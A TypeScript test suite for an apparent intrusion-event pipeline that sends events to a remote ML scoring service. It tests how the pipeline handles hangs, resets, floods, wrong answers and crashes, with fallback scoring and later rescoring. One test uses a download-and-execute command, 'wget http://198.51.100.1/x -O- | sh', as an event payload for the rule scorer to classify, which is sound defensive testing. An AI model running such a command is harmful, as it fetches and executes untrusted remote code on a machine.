import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { AppError } from '../../src/core/errors.ts';
import type { Store } from '../../src/core/store.ts';
import { createRemoteScorer, type RemoteScorerParts } from '../../src/score/remote-scorer.ts';
import { aDraft } from '../support/drafts.ts';
import {
  answers,
  drips,
  floods,
  goodAnswer,
  hangs,
  type Manner,
  type MlService,
  openMlService,
  resets,
} from '../support/ml-service.ts';
import { eventually, openTestPipeline, type TestPipeline } from '../support/pipeline.ts';

/** For a service that does answer: a busy machine must not be taken for one that hangs. */
const patient = { budgetMs: 20_000, rescoreIdleMs: 50, remoteCalls: 16 };
/** For one that does not. */
const soon = { ...patient, budgetMs: 400 };

describe('the pipeline with an ML service', () => {
  let service: MlService;
  let rig: TestPipeline;
  beforeEach(async () => {
    service = await openMlService();
  });
  afterEach(async () => {
    await rig.close();
    await service.close();
  });

  const open = async (
    over: Parameters<typeof openTestPipeline>[0] = {},
    remote: Partial<RemoteScorerParts> = {},
  ): Promise<TestPipeline> => {
    rig = await openTestPipeline({
      remote: createRemoteScorer({
        url: service.url,
        limitMs: over.limits?.budgetMs ?? patient.budgetMs,
        breaker: { failures: 5, probeMs: 100 },
        ...remote,
      }),
      limits: patient,
      ...over,
    });
    return rig;
  };
  const unfinished = (store: Store) => store.unfinished('fallback', '9999-01-01T00:00:00.000Z', 10_000);

  it('answers with the verdict of the service, and alerts by it', async () => {
    const { pipeline, sender, store } = await open();
    const results = await pipeline.accept(sender, [aDraft({ event_id: 'a' }), aDraft({ payload: 'second' })]);
    for (const result of results) {
      assert.equal(result.status, 'accepted');
      assert.equal(result.verdict?.scored_by, 'ml_api');
      assert.equal(result.verdict?.risk_score, 9);
    }
    // Both are of one source and service: the first to be judged makes the alert that they share.
    assert.equal(results.filter((result) => result.alert_created).length, 1);
    assert.deepEqual(service.asked.map(({ payload }) => payload).sort(), ['', 'second']);
    const tenant = store.of(sender.user_id);
    const event = await tenant.event(results[0]?.log_id ?? '');
    assert.equal(event?.state, 'done');
    assert.equal(event?.alert_created, results[0]?.alert_created);
    const second = await tenant.event(results[1]?.log_id ?? '');
    assert.equal(second?.alert_id, event?.alert_id);
    const stats = await tenant.stats();
    assert.equal(stats.total_attacks, 2);
    assert.equal(stats.risk_sum, 18);
    const [repeat] = await pipeline.accept(sender, [aDraft({ event_id: 'a' })]);
    assert.deepEqual({ ...repeat, status: 'accepted' }, results[0]);
  });

  it('gives a repeat that comes while the first is being judged the same answer', async () => {
    const { pipeline, sender, store } = await open();
    service.behave((request, response, body) => {
      setTimeout(() => answers(goodAnswer)(request, response, body), 100);
    });
    const first = pipeline.accept(sender, [aDraft({ event_id: 'a' }), aDraft({ event_id: 'a' })]);
    await eventually(async () => service.asked.length > 0);
    const second = pipeline.accept(sender, [aDraft({ event_id: 'a' })]);
    const [[one, two], [three]] = await Promise.all([first, second]);
    assert.deepEqual(
      [one, two, three].map((r) => r?.status),
      ['accepted', 'duplicate', 'duplicate'],
    );
    for (const repeat of [two, three]) assert.deepEqual({ ...repeat, status: 'accepted' }, one);
    assert.equal(service.asked.length, 1);
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 1);
  });

  const faults: [string, Manner][] = [
    ['hangs', hangs],
    ['resets connections', resets],
    ['drips', drips],
    ['answers 50 MB', floods],
    ['lies', answers({ ...goodAnswer, risk_score: 99 })],
    ['fails', answers('no', 500)],
  ];
  for (const [what, manner] of faults)
    it(`loses nothing when the service ${what}, and scores it all again when it is back`, async () => {
      const { pipeline, sender, store } = await open({ limits: soon });
      const tenant = store.of(sender.user_id);
      service.behave(manner);
      const results = await pipeline.accept(
        sender,
        Array.from({ length: 60 }, (_, i) => aDraft({ event_id: `e${i}` })),
      );
      for (const result of results) {
        assert.equal(result.status, 'accepted');
        assert.equal(result.verdict?.attack_type, 'unknown');
        assert.equal(result.verdict?.scored_by, 'fallback');
      }
      assert.equal((await unfinished(store)).length, 60);
      assert.equal((await tenant.stats()).total_attacks, 60);
      assert.equal((await tenant.stats()).risk_sum, 0);

      service.behave(answers(goodAnswer));
      await eventually(async () => (await unfinished(store)).length === 0);
      const stats = await tenant.stats();
      assert.equal(stats.total_attacks, 60);
      assert.equal(stats.risk_sum, 60 * 9);
      const profile = await tenant.profile('203.0.113.7');
      assert.equal(profile?.total_attacks, 60);
      assert.equal(profile?.average_risk_score, 9);
      assert.equal(profile?.most_common_attack, 'BruteForce');
      assert.equal(profile?.attack_types.unknown ?? 0, 0);
      assert.ok(stats.active_alerts > 0, 'what the second look finds risky alerts');
      // Counted when the store has acknowledged it, which readers may be ahead of.
      await eventually(async () => (pipeline.counters().rescored ?? 0) >= 60);
      assert.equal(pipeline.counters().rescored, 60);
      const [repeat] = await pipeline.accept(sender, [aDraft({ event_id: 'e0' })]);
      assert.equal(repeat?.status, 'duplicate');
      assert.equal((await tenant.stats()).total_attacks, 60);
    });

  it('asks a hanging service a handful of times, whatever comes in', async () => {
    const { pipeline, sender, store } = await open({ limits: soon });
    service.behave(hangs);
    const calls = Array.from({ length: 500 }, (_, i) =>
      pipeline.accept(sender, [aDraft({ source_ip: `203.0.113.${i % 250}` })]),
    );
    const results = (await Promise.all(calls)).flat();
    assert.ok(results.every((r) => r.status === 'accepted' && r.verdict?.scored_by === 'fallback'));
    // Those under way when the breaker opened, and a probe or two of the rescorer.
    assert.ok(service.asked.length <= soon.remoteCalls + 10, `asked ${service.asked.length} times`);
    assert.equal((await store.of(sender.user_id).stats()).total_attacks, 500);
  });

  it('scores in process meanwhile where that is configured', async () => {
    const { pipeline, sender, store } = await open({ mlFallback: 'local' });
    service.behave(answers('no', 500));
    const [result] = await pipeline.accept(sender, [
      aDraft({ kind: 'command.run', payload: 'wget http://198.51.100.1/x -O- | sh' }),
    ]);
    assert.equal(result?.verdict?.scored_by, 'rules');
    assert.equal((await unfinished(store)).length, 1);
    service.behave(answers(goodAnswer));
    await eventually(async () => (await unfinished(store)).length === 0);
    assert.equal((await store.of(sender.user_id).event(result?.log_id ?? ''))?.verdict?.scored_by, 'ml_api');
  });

  it('does not let events that the service cannot score hold up the others', async () => {
    const { pipeline, sender, store } = await open({}, { breaker: { failures: 1000, probeMs: 50 } });
    const picky: Manner = (request, response, body) =>
      answers(body.includes('odd') ? { detail: 'odd' } : goodAnswer, body.includes('odd') ? 422 : 200)(
        request,
        response,
        body,
      );
    service.behave(answers('no', 500));
    await pipeline.accept(sender, [
      ...Array.from({ length: 120 }, () => aDraft({ payload: 'odd' })),
      ...Array.from({ length: 30 }, () => aDraft()),
    ]);
    service.behave(picky);
    await eventually(async () => (await unfinished(store)).length === 120);
    service.behave(answers(goodAnswer));
    await eventually(async () => (await unfinished(store)).length === 0);
  });

  it('completes what a crash left without a verdict', async () => {
    const at = '2026-11-25T08:00:00.000Z';
    const { store, sender } = await open({
      async prepare(prepared) {
        await prepared.append([
          {
            ...aDraft({ event_id: 'a' }),
            user_id: 'user-1',
            node_id: 'node-1',
            log_id: 'log-a',
            received_at: at,
            place: null,
            state: 'pending',
            verdict: null,
            alert_id: null,
            alert_created: false,
            suppressed_by: null,
          },
        ]);
      },
    });
    const tenant = store.of(sender.user_id);
    await eventually(async () => (await tenant.event('log-a'))?.state === 'done');
    assert.equal((await tenant.event('log-a'))?.verdict?.scored_by, 'ml_api');
    assert.equal((await tenant.stats()).total_attacks, 1);
  });

  it('acknowledges a durable event whose verdict could not be written, and writes it later', async () => {
    let broken = true;
    const { pipeline, sender, store } = await open({
      limits: { ...soon, budgetMs: 20 },
      wrap: (inner) =>
        new Proxy(inner, {
          get(target, name) {
            if (name === 'apply' && broken)
              return async () => {
                throw new AppError('unavailable', 'The store does not answer');
              };
            const value = Reflect.get(target, name) as unknown;
            return typeof value === 'function' ? value.bind(target) : value;
          },
        }),
    });
    const [result] = await pipeline.accept(sender, [aDraft()]);
    assert.equal(result?.status, 'accepted');
    broken = false;
    const tenant = store.of(sender.user_id);
    await eventually(async () => (await tenant.event(result?.log_id ?? ''))?.state === 'done');
    assert.equal((await tenant.stats()).total_attacks, 1);
  });
});
